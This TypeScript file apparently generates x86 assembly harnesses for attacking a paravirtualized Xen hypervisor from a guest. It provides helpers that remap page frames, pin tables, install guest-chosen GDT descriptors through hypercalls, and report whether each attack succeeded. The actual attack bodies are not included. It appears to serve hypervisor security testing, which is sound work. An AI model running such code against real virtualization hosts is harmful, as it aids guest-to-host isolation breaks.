/** Wrap an attack. It ends in EAX: 0 is success. */
export const attackSource = (body: string): string => `
start:
  mov [letter], esi
  ${body}
verdict:
  test eax, eax
  mov DWORD PTR [reason], 0
  jz end
  mov DWORD PTR [reason], 1
end:
  mov ebx, 2
  mov ecx, reason
  mov eax, 29
  int 0x82

mfn_of:                    ; the machine frame behind address ecx
  mov eax, [letter]
  mov eax, [eax + 68]
  shr ecx, 12
  mov eax, [eax + ecx * 4]
  ret
remap:                     ; map frame eax at ebx with flags edi
  mov ecx, eax
  mov edx, eax
  shl ecx, 12
  shr edx, 20
  or ecx, edi
  mov esi, 2
  mov eax, 14
  int 0x82
  ret
table_of:                  ; the machine frame of boot table ecx
  mov eax, [letter]
  shl ecx, 12
  add ecx, [eax + 60]
  jmp mfn_of
pin:                       ; mmuext command edx on frame eax
  mov [ext], edx
  mov [ext + 4], eax
extend:
  mov ebx, ext
  mov ecx, 1
  xor edx, edx
  mov esi, 0x7ff0
  mov eax, 26
  int 0x82
  ret
${rest}`;

const rest = `
update:                    ; mmu_update: entry at ebx becomes eax
  mov [request], ebx
  mov [request + 8], eax
  mov ebx, request
  mov ecx, 1
  xor edx, edx
  mov esi, 0x7ff0
  mov eax, 1
  int 0x82
  ret
own_gdt:                   ; descriptor edx:eax becomes selector 8
  push eax
  push edx
  mov ecx, gdt
  call mfn_of
  mov [list], eax
  mov ebx, gdt
  mov edi, 1
  call remap
  mov ebx, list
  mov ecx, 512
  mov eax, 2
  int 0x82
  pop esi
  pop edx
  test eax, eax
  jnz verdict
  mov ebx, [list]
  shl ebx, 12
  add ebx, 8
  xor ecx, ecx
  mov eax, 10
  int 0x82
  ret
.align 4
letter: .long 0
reason: .long 0
list: .long 0
ext: .long 0, 0, 0
request: .long 0, 0, 0, 0
pointer: .long 0, 0
.align 4096
gdt: .space 4096
empty: .space 4096
spare: .space 4096
`;

/** Load a descriptor of one's own, then run `then` with it. */
export const withDescriptor =
  (low: number, high: number, then: string): string => `
  mov eax, ${low >>> 0}
  mov edx, ${high >>> 0}
  call own_gdt
  test eax, eax
  jnz verdict
  ${then}`;
